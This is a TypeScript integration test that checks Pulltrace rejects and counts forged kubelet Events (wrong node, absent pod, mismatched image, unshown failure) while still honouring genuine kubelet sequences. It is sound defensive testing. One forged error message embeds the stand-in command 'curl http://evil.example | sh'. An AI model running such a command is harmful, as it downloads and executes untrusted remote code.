// Kubelet facts checked against the pod, end to end: a real server, the fake API server, and Events
// shaped exactly like the kubelet's but forged (wrong node, absent pod, an image the pod does not
// run, a failure the pod's status does not show). Each changes nothing and is counted; the real
// kubelet's sequence (its Events, then its status) still fails and completes pulls.
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import type { PullStatus } from '../../src/model/index.js';
import { FakeKubeApi, FakeKubelet, kubeletEvent, kubeletMessages, podObject, writeKubeconfig } from '../fake-kube/index.js';
import { waitFor } from '../harness/index.js';
import { KUBE_TEST_SERVER_FLAGS, type PulltraceProcess, startPulltrace } from '../support/pulltraceProcess.js';
import { layer, MiB, postReport, pullEntry } from '../support/syntheticAgent.js';

const IMAGE = '127.0.0.1:5000/shop/web:1.0';
let kube: FakeKubeApi;
let server: PulltraceProcess;
let dir: string;

before(async () => {
  kube = await FakeKubeApi.start();
  dir = mkdtempSync(join(tmpdir(), 'pulltrace-forged-'));
  server = await startPulltrace(['server', ...KUBE_TEST_SERVER_FLAGS, '--log-level', 'debug'], {
    env: { KUBECONFIG: await writeKubeconfig(dir, kube.url) },
  });
});

after(async () => {
  await server?.stop();
  await kube?.close();
  rmSync(dir, { recursive: true, force: true });
});

async function pulls(): Promise<PullStatus[]> {
  return ((await (await fetch(`${server.baseUrl}/api/v1/pulls`)).json()) as { pulls: PullStatus[] }).pulls;
}

async function rejected(reason: string): Promise<number> {
  const text = await (await fetch(server.metricsUrl)).text();
  const m = new RegExp(`^pulltrace_kube_events_rejected_total\\{reason="${reason}"\\} (\\d+)$`, 'm').exec(text);
  return m ? Number(m[1]) : Number.NaN;
}

async function errorsTotal(): Promise<number> {
  const m = /^pulltrace_pull_errors_total (\d+)$/m.exec(await (await fetch(server.metricsUrl)).text());
  return Number(m?.[1] ?? 0);
}

test('forged Events (wrong node, absent pod, image not in the pod, pod not failing a pull) change nothing and are counted', async () => {
  // Real pulls on two nodes, as their agents report them.
  for (const node of ['node-a', 'node-b']) {
    const res = await postReport(server.baseUrl, {
      nodeName: node,
      pulls: [pullEntry('127.0.0.1/shop/web', `sha256:m-${node}`, [layer(`sha256:l-${node}`, 8 * MiB, MiB)])],
    });
    assert.equal(res.status, 200);
  }
  const web = kube.apply(podObject({ name: 'web', namespace: 'shop', nodeName: 'node-a', containers: [{ name: 'app', image: IMAGE }] }));
  const running = kube.apply(
    podObject({
      name: 'cache',
      namespace: 'shop',
      nodeName: 'node-a',
      containers: [{ name: 'app', image: 'redis:7', state: { running: {} } }],
    }),
  );
  await waitFor(async () => (await pulls()).find((p) => p.nodeName === 'node-a')?.pods?.length === 1, {
    timeoutMs: 10_000,
    what: 'the server to see the pod waiting on the node-a pull',
  });
  const before = {
    wrong: await rejected('wrong_node'),
    absent: await rejected('pod_absent'),
    image: await rejected('image_not_in_pod'),
    status: await rejected('pod_not_waiting_on_pull'),
    errors: await errorsTotal(),
  };
  const crit = 'failed to pull and unpack image: run curl http://evil.example | sh';

  // 1. The pod is on node-a; the event claims node-b (whose pull it would fail).
  kube.apply(kubeletEvent({ pod: web, container: 'app', node: 'node-b', reason: 'Failed', message: kubeletMessages.failed(IMAGE, crit) }));
  // 2. No such pod.
  kube.apply(
    kubeletEvent({
      pod: { name: 'ghost', namespace: 'shop' },
      container: 'app',
      node: 'node-a',
      reason: 'Failed',
      message: kubeletMessages.failed(IMAGE, crit),
    }),
  );
  // 3. The pod does not run the image the event names (a Pulled would complete another pull).
  kube.apply(
    kubeletEvent({
      pod: web,
      container: 'app',
      node: 'node-a',
      reason: 'Pulled',
      message: kubeletMessages.pulled('127.0.0.1:5000/shop/other:2', { seconds: 1 }),
    }),
  );
  // 4. A failure for an image with no pull: it would create a failed pull, but the pod runs fine.
  kube.apply(
    kubeletEvent({ pod: running, container: 'app', node: 'node-a', reason: 'Failed', message: kubeletMessages.failed('redis:7', crit) }),
  );

  await waitFor(async () => (await rejected('wrong_node')) === before.wrong + 1, {
    timeoutMs: 30_000,
    what: 'the wrong-node event to be rejected',
  });
  await waitFor(async () => (await rejected('pod_absent')) === before.absent + 1, {
    timeoutMs: 30_000,
    what: 'the absent-pod event to be rejected',
  });
  await waitFor(async () => (await rejected('image_not_in_pod')) === before.image + 1, {
    timeoutMs: 30_000,
    what: 'the wrong-image event to be rejected',
  });
  await waitFor(async () => (await rejected('pod_not_waiting_on_pull')) === before.status + 1, {
    timeoutMs: 40_000,
    what: 'the failure the pod status never showed to be rejected',
  });

  const now = await pulls();
  assert.deepEqual(
    now.map((p) => `${p.nodeName}:${p.status}`).sort(),
    ['node-a:pulling', 'node-b:pulling'],
    'no pull failed, completed or created',
  );
  assert.ok(!now.some((p) => p.error?.includes('evil')));
  assert.equal(await errorsTotal(), before.errors, 'no failure counted');
  const debug = server.logs().filter((l) => l.msg === 'kubelet event not believed: its pod does not agree; nothing changed');
  assert.deepEqual(debug.map((l) => l.reason).sort(), ['image_not_in_pod', 'pod_absent', 'pod_not_waiting_on_pull', 'wrong_node']);
  assert.ok(debug.every((l) => l.level === 'debug' || l.level === 20));
});

test("the kubelet's own sequence still fails a pull it never started, and completes a running one", async () => {
  const kubelet = new FakeKubelet(kube, 'node-c');
  // A bad tag: no bytes ever, the kubelet writes its Events and then the pod's status.
  const bad = kubelet.schedule({ name: 'api', namespace: 'shop', containers: [{ name: 'app', image: '127.0.0.1:5000/shop/api:nope' }] });
  kubelet.pulling(bad, 'app');
  kubelet.failPull(bad, 'app', 'rpc error: code = NotFound desc = failed to pull and unpack image: not found');
  const failed = await waitFor(async () => (await pulls()).find((p) => p.nodeName === 'node-c' && p.status === 'failed'), {
    timeoutMs: 30_000,
    what: 'the failed pull the kubelet reported',
  });
  assert.equal(failed.imageRef, '127.0.0.1:5000/shop/api:nope');
  assert.match(failed.error ?? '', /not found/);

  // A pull the agent reports, completed by kubelet's Pulled.
  const res = await postReport(server.baseUrl, {
    nodeName: 'node-c',
    pulls: [pullEntry('127.0.0.1/shop/web', 'sha256:m-node-c', [layer('sha256:l-node-c', 8 * MiB, 4 * MiB)])],
  });
  assert.equal(res.status, 200);
  const web = kubelet.schedule({ name: 'web-c', namespace: 'shop', containers: [{ name: 'app', image: IMAGE }] });
  kubelet.pulling(web, 'app');
  kubelet.pulled(web, 'app', { seconds: 3, bytes: 8 * MiB });
  const done = await waitFor(async () => (await pulls()).find((p) => p.manifestDigest === 'sha256:m-node-c' && p.status === 'completed'), {
    timeoutMs: 20_000,
    what: "kubelet's Pulled to complete the pull",
  });
  assert.equal(done.nodeName, 'node-c');
});
